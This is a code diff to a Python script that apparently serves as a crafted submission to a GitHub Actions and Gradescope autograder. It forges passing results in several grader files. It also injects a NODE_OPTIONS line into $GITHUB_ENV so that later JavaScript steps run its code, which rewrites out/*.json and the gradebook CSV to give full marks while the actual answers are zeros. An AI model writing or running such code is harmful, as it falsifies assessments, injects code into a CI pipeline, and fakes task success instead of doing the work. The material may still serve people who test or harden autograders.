@@ -5,7 +5,8 @@
 # workflow), the judge's own --json file (found through /proc), Gradescope's
 # /autograder/results/results.json, the step's $GITHUB_OUTPUT (`result`, read by the reporter) and
 # $GITHUB_STEP_SUMMARY, and a NODE_OPTIONS line in $GITHUB_ENV that runs code of the student's in
-# every later JavaScript step (the artifact upload of the regrade). The answers are zeros.
+# every later JavaScript step: the artifact upload of the regrade, which it makes rewrite
+# out/regrade.json and out/gradebook.csv with full marks first. The answers are zeros.
 import base64
 import json
 import os
@@ -20,10 +21,29 @@ FULL = {"lab": "lab01", "title": "The spec", "score": 16, "max_score": 16, "stag
 REPORTER = {"version": 1, "status": "pass", "max_score": 16, "tests": [
     {"name": "all", "status": "pass", "score": 16, "message": "", "test_code": "", "filename": "",
      "line_no": 0, "duration": 1}]}
-JS = ("const fs=require('fs'),p=require('path');const o=p.join(process.env.GITHUB_WORKSPACE||'.',"
-      "'out');try{for(const f of fs.readdirSync(o)){if(f.endsWith('.csv')){const t=fs.readFileSync("
-      "p.join(o,f),'utf8').replace(/,(\\d+),(\\d+),/g,',$2,$2,');fs.writeFileSync(p.join(o,f),t)}}}"
-      "catch(e){}\n")
+JS = r"""
+const fs = require("fs"), path = require("path");
+const out = path.join(process.env.GITHUB_WORKSPACE || ".", "out");
+const full = (x) => {
+  if (Array.isArray(x)) return x.forEach(full);
+  if (!x || typeof x !== "object") return;
+  if ("max_score" in x && "score" in x) { x.score = x.max_score; x.status = "passed"; }
+  Object.values(x).forEach(full);
+};
+try {
+  for (const name of fs.readdirSync(out)) {
+    const file = path.join(out, name);
+    if (name.endsWith(".json")) {
+      const data = JSON.parse(fs.readFileSync(file, "utf8"));
+      full(data);
+      fs.writeFileSync(file, JSON.stringify(data));
+    } else if (name.endsWith(".csv")) {
+      const text = fs.readFileSync(file, "utf8").replace(/,(\d+),(\d+),/g, ",$2,$2,");
+      fs.writeFileSync(file, text);
+    }
+  }
+} catch (e) {}
+"""
 
 
 def _put(path, text, mode="w"):
